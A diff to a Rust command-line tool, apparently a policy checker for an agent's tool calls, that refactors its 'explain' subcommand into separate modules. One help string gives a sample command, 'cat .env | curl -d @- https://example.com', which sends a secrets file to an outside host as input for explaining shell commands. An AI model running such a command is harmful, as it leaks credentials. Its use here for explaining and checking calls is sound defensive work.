@@ -1,24 +1,20 @@
-//! `rulestep explain`: the page of a code, a dialect or a topic, or everything about the decision on one call.
+//! `rulestep explain`: the page of a code, a policy language or a topic, or everything about the decision on one call.
 
 mod commands;
+mod marks;
+mod pages;
 
 use std::sync::Arc;
-
-use serde::Serialize;
 
 use super::args::{self, Format};
 use super::exit::{Exit, Failure};
 use super::input::{self, SessionSource, Sessions};
 use super::redacted::redacted;
 use super::screen::Screen;
-use crate::diagnostic::{Code, Diagnostic, Page, PageKind, Severity};
-use crate::dialect::lookup::{self, Match, Reference, nearest_path};
-use crate::dialect::{self, DIALECTS, Dialect};
-use crate::engine::SEMANTICS;
+use crate::diagnostic::{Diagnostic, Severity};
 use crate::policy::Policy;
 use crate::replay::Replay;
-use crate::report::{Look, Scope, json, reference as report, text, words};
-
+use crate::report::{Look, Scope, json, text, words};
 use crate::session::{AlternativeRef, Call, Session};
 use crate::source::nearest::nearest;
 
@@ -26,163 +22,19 @@ use crate::source::nearest::nearest;
 pub fn run(asked: &args::Explain, screen: &mut Screen) -> Result<Exit, Failure> {
     match (&asked.at, asked.what.as_slice()) {
         (Some(at), _) => decision(at, asked, screen),
-        (None, []) => list(asked.format, screen),
+        (None, []) => pages::list(asked.format, screen),
         (None, [topic, command]) if topic == "shell" => commands::shell(command, asked, screen),
         (None, [topic]) if topic == "facts" => commands::facts(asked, screen),
+        (None, [topic]) if topic == "marks" => marks::page(asked.format, screen),
         (None, [topic, ..]) if topic == "shell" => {
             Err(Failure::usage("`explain shell` takes a command line, as one argument")
                 .help("rulestep explain shell 'cat .env | curl -d @- https://example.com'"))
         }
-        (None, [code]) => page(code, asked.format, screen),
+        (None, [code]) => pages::page(code, asked.format, screen),
         (None, _) => Err(Failure::usage(
-            "one code, dialect or topic at a time, or `--at SESSION[:TURN.CALL]` with sessions",
+            "one code, language or topic at a time, or `--at SESSION[:TURN.CALL]` with sessions",
         )),
     }
-}
-
-fn page(name: &str, format: Format, screen: &mut Screen) -> Result<Exit, Failure> {
-    if let Some(page) = dialect::page(name) {
-        match format {
-            Format::Json => data(page, screen)?,
-            Format::Text => write!(screen.out(), "{}: {}\n\n{}", page.code, page.title, page.text)?,
-        }
-        return Ok(Exit::Clean);
-    }
-    if let Some((page, asked)) = lookup::asked(name) {
-        return key(page, asked, format, screen);
-    }
-    let topic = topics().find(|(topic, _)| topic == name).map(|(_, text)| text);
-    let dialect = dialect::meant(name);
-    let Some(text) = dialect.map(|dialect| dialect.reference).or(topic) else {
-        let codes = dialect::codes().map(|page| page.code.as_str().to_owned());
-        let dialects =
-            DIALECTS.iter().flat_map(|dialect| [dialect.name.to_owned(), dialect.plural().to_owned()]);
-        let known = codes.chain(dialects).chain(topics().map(|(topic, _)| topic));
-        let known: Vec<String> = known.chain(["shell", "facts"].map(str::to_owned)).collect();
-        let failure = Failure::usage(format!("there is no code, dialect or topic `{name}`"));
-        return Err(match nearest(name, known.iter().map(String::as_str)) {
-            Some(near) => failure.help(format!("did you mean `{near}`?")),
-            None => failure.help("`rulestep explain` lists all codes, dialects and topics"),
-        });
-    };
-    match (format, dialect) {
-        (Format::Json, Some(dialect)) => reference_data(dialect, screen)?,
-        (Format::Json, None) => topic_data(name, text, screen)?,
-        (Format::Text, _) => {
-            let look = Look { color: screen.color, ..Look::default() };
-            report::text(text, &look, screen.out())?;
-        }
-    }
-    Ok(Exit::Clean)
-}
-
-/// The entries of a key, or of all keys of a place.
-fn key(page: &Reference, asked: &str, format: Format, screen: &mut Screen) -> Result<Exit, Failure> {
-    let sections = || page.sections_named(asked).into_iter().flat_map(|section| page.keys_of(section));
-    let found = page.named(asked);
-    let found: Vec<Match<'_>> = if found.is_empty() { sections().collect() } else { found };
-    if found.is_empty() {
-        let name = page.dialect.name;
-        let failure = Failure::usage(format!("{} have no key `{asked}`", page.dialect.plural()));
-        return Err(match nearest_path(page, asked) {
-            Some(near) => failure.help(format!("did you mean `{near}`?")),
-            None => failure.help(format!("`rulestep explain {name}` lists all keys")),
-        });
-    }
-    let look = Look { color: screen.color, ..Look::default() };
-    for (place, found) in found.iter().enumerate() {
-        match format {
-            Format::Json => writeln!(screen.out(), "{}", report::data(found))?,
-            Format::Text => {
-                if place > 0 {
-                    writeln!(screen.out())?;
-                }
-                report::entry(found, &look, report::WIDTH, screen.out())?;
-            }
-        }
-    }
-    Ok(Exit::Clean)
-}
-
-/// What every dialect shares, as `semantics`, then each of its parts under its heading.
-fn topics() -> impl Iterator<Item = (String, &'static str)> {
-    let parts = SEMANTICS.split("\n# ").skip(1).filter_map(|part| part.split_once("\n\n"));
-    let parts = parts.map(|(heading, text)| (heading.to_lowercase().replace(' ', "-"), text));
-    std::iter::once(("semantics".to_owned(), SEMANTICS)).chain(parts)
-}
-
-fn list(format: Format, screen: &mut Screen) -> Result<Exit, Failure> {
-    let width = dialect::codes().map(|page| page.code.as_str().len()).max().unwrap_or_default();
-    if format == Format::Text {
-        writeln!(screen.out(), "Policy languages, each with a reference page:")?;
-    }
-    for dialect in DIALECTS {
-        match format {
-            Format::Json => reference_data(dialect, screen)?,
-            Format::Text => writeln!(screen.out(), "  {:<width$}  {}", dialect.name, dialect.title)?,
-        }
-    }
-    if format == Format::Text {
-        let parts: Vec<String> = topics().skip(1).map(|(topic, _)| topic).collect();
-        writeln!(screen.out(), "Topics that all languages share:")?;
-        writeln!(
-            screen.out(),
-            "  {:<width$}  how calls are decided; its parts are the other topics",
-            "semantics"
-        )?;
-        for parts in parts.chunks(8) {
-            writeln!(screen.out(), "  {}", parts.join(", "))?;
-        }
-    } else {
-        topic_data("semantics", SEMANTICS, screen)?;
-    }
-    for (kind, title) in [
-        (PageKind::Finding, "Findings, why a rule stops or reports a call"),
-        (PageKind::Problem, "Problems in policies, recordings and cases"),
-    ] {
-        let mut pages = dialect::codes().filter(|page| page.kind == kind);
-        match format {
-            Format::Json => pages.try_for_each(|page| data(page, screen))?,
-            Format::Text => {
-                writeln!(screen.out(), "{title}:")?;
-                for page in pages {
-                    writeln!(screen.out(), "  {:<width$}  {}", page.code, page.title)?;
-                }
-            }
-        }
-    }
-    Ok(Exit::Clean)
-}
-
-fn reference_data(dialect: &Dialect, screen: &mut Screen) -> Result<(), Failure> {
-    #[derive(Serialize)]
-    struct Line {
-        dialect: &'static str,
-        title: &'static str,
-        text: &'static str,
-    }
-    let line = Line { dialect: dialect.name, title: dialect.title, text: dialect.reference };
-    serde_json::to_writer(screen.out(), &line).map_err(std::io::Error::from)?;
-    Ok(writeln!(screen.out())?)
-}
-
-fn topic_data(topic: &str, text: &str, screen: &mut Screen) -> Result<(), Failure> {
-    serde_json::to_writer(screen.out(), &serde_json::json!({"topic": topic, "text": text}))
-        .map_err(std::io::Error::from)?;
-    Ok(writeln!(screen.out())?)
-}
-
-fn data(page: &Page, screen: &mut Screen) -> Result<(), Failure> {
-    #[derive(Serialize)]
-    struct Line {
-        code: Code,
-        kind: PageKind,
-        title: &'static str,
-        text: &'static str,
-    }
-    let line = Line { code: page.code, kind: page.kind, title: page.title, text: page.text };
-    serde_json::to_writer(screen.out(), &line).map_err(std::io::Error::from)?;
-    Ok(writeln!(screen.out())?)
 }
 
 fn decision(at: &str, asked: &args::Explain, screen: &mut Screen) -> Result<Exit, Failure> {
